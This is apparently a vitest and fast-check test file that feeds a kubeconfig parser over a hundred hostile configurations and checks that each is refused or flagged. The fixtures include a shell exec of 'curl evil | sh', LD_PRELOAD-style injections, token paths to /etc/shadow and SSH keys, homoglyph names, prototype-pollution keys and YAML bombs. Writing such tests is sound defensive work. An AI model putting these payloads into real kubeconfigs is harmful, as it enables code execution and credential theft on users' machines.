import fc from 'fast-check';
import { expect, it } from 'vitest';
import { stringify } from 'yaml';
import { KubeSageError } from '../../kernel/errors.ts';
import { fixture } from './fixtures.ts';
import { parseKubeconfig } from './parse.ts';
import { resolveFile } from './resolve.ts';

const v1beta1 = 'client.authentication.k8s.io/v1beta1';
const canary = 'CANARY-5b1c9d';

function contextsOf(text: string) {
  const facts = { worldReadable: true, folderWorldWritable: true };
  const parsed = parseKubeconfig(text, '/tmp/shared');
  return resolveFile({ parsed, source: '/tmp/shared/config', key: 'k', sourceId: 's', facts, demo: false });
}

/** The ways of hostility, each as a maker of kubeconfigs from a number. */
const makers: readonly ((n: number) => { text: string; expected: 'refused' | 'problem' | 'risk' })[] = [
  // Plugins: paths, loaders, interpreters.
  (n) => ({
    text: fixture({
      user: { exec: { apiVersion: v1beta1, command: ['./x', '../x', 'a/b', './../../x', './ x'][n % 5] } },
    }),
    expected: 'risk',
  }),
  (n) => {
    const names = [
      'LD_PRELOAD',
      'LD_LIBRARY_PATH',
      'DYLD_INSERT_LIBRARIES',
      'NODE_OPTIONS',
      'BASH_ENV',
      'PYTHONPATH',
      'PATH',
      'ld_audit',
      'GIT_SSH_COMMAND',
      'PERL5OPT',
    ];
    const env = [{ name: names[n % names.length], value: '/tmp/evil' }];
    return { text: fixture({ user: { exec: { apiVersion: v1beta1, command: 'aws', env } } }), expected: 'risk' };
  },
  (n) => {
    const command = ['sh', '/bin/bash', 'C:\\Windows\\cmd.exe', 'powershell', 'zsh'][n % 5];
    const exec = { apiVersion: v1beta1, command, args: ['-c', 'curl evil | sh'] };
    return { text: fixture({ user: { exec } }), expected: 'risk' };
  },
  (n) => ({
    text: fixture({ user: { exec: { apiVersion: v1beta1, command: ['aws\0', 'a\0b', 'kubelogin\0.exe'][n % 3] } } }),
    expected: 'problem',
  }),
  // Names that imitate others.
  (n) => ({
    text: fixture({ contexts: [['prоd', 'ргоd', 'pro\u200bd', 'p\u202ero', 'ｐrod', 'ρrod'][n % 6] ?? ''] }),
    expected: 'risk',
  }),
  (n) => ({
    text: fixture({ server: ['https://аpi.example.com', 'https://xn--pi-7kc.example.com'][n % 2] ?? '' }),
    expected: 'risk',
  }),
  (n) => ({
    text: fixture({ user: { exec: { apiVersion: v1beta1, command: ['аws', 'kubelоgin', 'aws\u200d'][n % 3] } } }),
    expected: 'risk',
  }),
  // Addresses.
  (n) => ({
    text: fixture({
      server:
        ['file:///etc/passwd', 'javascript:alert(1)', 'https://u:p@h', 'https://', 'ftp://h', 'data:,x'][n % 6] ?? '',
    }),
    expected: 'problem',
  }),
  (n) => ({
    text: fixture({
      server: ['http://10.0.0.1', 'http://evil.example.com:8080', 'http://127.0.0.1.evil.com'][n % 3] ?? '',
    }),
    expected: 'risk',
  }),
  (n) => ({
    text: fixture({ cluster: { 'insecure-skip-tls-verify': [true, 'yes', 'True'][n % 3] } }),
    expected: 'risk',
  }),
  (n) => ({
    text: fixture({ cluster: { 'proxy-url': ['http://evil:3128', 'socks5://evil:1', 'https://evil'][n % 3] } }),
    expected: 'risk',
  }),
  (n) => ({
    text: fixture({ user: { tokenFile: ['/etc/shadow', '../../.ssh/id_rsa', '/proc/self/environ'][n % 3] } }),
    expected: 'risk',
  }),
  (n) => ({ text: fixture({ cluster: { 'tls-server-name': `other-${n}` } }), expected: 'risk' }),
  // YAML itself.
  (n) => {
    const levels = Array.from(
      { length: 9 + n },
      (_, at) => `l${at + 1}: &l${at + 1} [${Array(9).fill(`*l${at}`).join(',')}]`,
    );
    return {
      text: `l0: &l0 [x,x,x,x,x,x,x,x,x]\n${levels.join('\n')}\nkind: Config\nclusters: *l${9 + n}\n`,
      expected: 'refused',
    };
  },
  (n) => ({ text: `kind: Config\nclusters: ${'['.repeat(20_000 + n * 1000)}`, expected: 'refused' }),
  (n) => ({ text: `kind: Config\nclusters:\n${'- {'.repeat(5_000 + n)}`, expected: 'refused' }),
  (n) => ({ text: `${fixture()}\n# ${'x'.repeat(5_000_000 + n)}`, expected: 'refused' }),
  (n) => ({
    text:
      ['', '   ', '\u0000', '---', 'null', '42', '"text"', '[]', 'kind: Pod\nclusters: []', '{}', '<html></html>'][
        n % 11
      ] ?? '',
    expected: 'refused',
  }),
  (n) => ({
    text: fixture()
      .slice(0, 40 + n * 7)
      .concat('\n}: {['),
    expected: 'refused',
  }),
  // Keys that mean something to JavaScript.
  (n) => ({
    text: stringify({
      kind: 'Config',
      clusters: [
        { name: ['__proto__', 'constructor', 'toString', 'hasOwnProperty'][n % 4], cluster: { server: 'http://evil' } },
      ],
      contexts: [
        { name: '__proto__', context: { cluster: ['__proto__', 'constructor', 'toString', 'hasOwnProperty'][n % 4] } },
      ],
    }),
    expected: 'risk',
  }),
];

const cases = makers.flatMap((make, maker) => Array.from({ length: 6 }, (_, n) => ({ maker, n, ...make(n) })));

it('has more than a hundred hostile kubeconfigs to look at', () => {
  expect(cases.length).toBeGreaterThanOrEqual(100);
});

it.each(cases)('S6: maker $maker, number $n, is $expected', ({ text, expected }) => {
  if (expected === 'refused') {
    // A bomb that is not refused would take all time or memory, and fail the test by its time limit.
    expect(() => contextsOf(text)).toThrow(KubeSageError);
    return;
  }
  const contexts = contextsOf(text);
  expect(contexts.length).toBeGreaterThan(0);
  for (const context of contexts) {
    if (expected === 'problem')
      expect(context).toMatchObject({ address: undefined, problem: { message: expect.any(String) } });
    else expect([context.problem, context.risks.length > 0]).toEqual([undefined, true]);
  }
  expect(({} as Record<string, unknown>).server).toBeUndefined();
});

it('throws nothing but KubeSageError, and never quotes the text, whatever is cut, doubled or flipped', () => {
  const original = fixture({
    contexts: ['a', 'b'],
    user: { token: canary, exec: { command: 'x', apiVersion: v1beta1 } },
  });
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.nat(original.length), fc.nat(30), fc.string({ maxLength: 5 })), {
        minLength: 1,
        maxLength: 6,
      }),
      (edits) => {
        let text = original;
        for (const [at, length, insert] of edits) text = text.slice(0, at) + insert + text.slice(at + length);
        let said: string;
        try {
          said = JSON.stringify(contextsOf(text).map((context) => [context.problem, context.risks]));
        } catch (error) {
          expect(error).toBeInstanceOf(KubeSageError);
          said = `${(error as KubeSageError).message}${(error as KubeSageError).hint}`;
        }
        // The canary may end up in a name when an edit moves it there; as a token's value it must not be told.
        if (text.includes(`token: ${canary}`)) expect(said).not.toContain(canary);
      },
    ),
    { numRuns: 300 },
  );
});
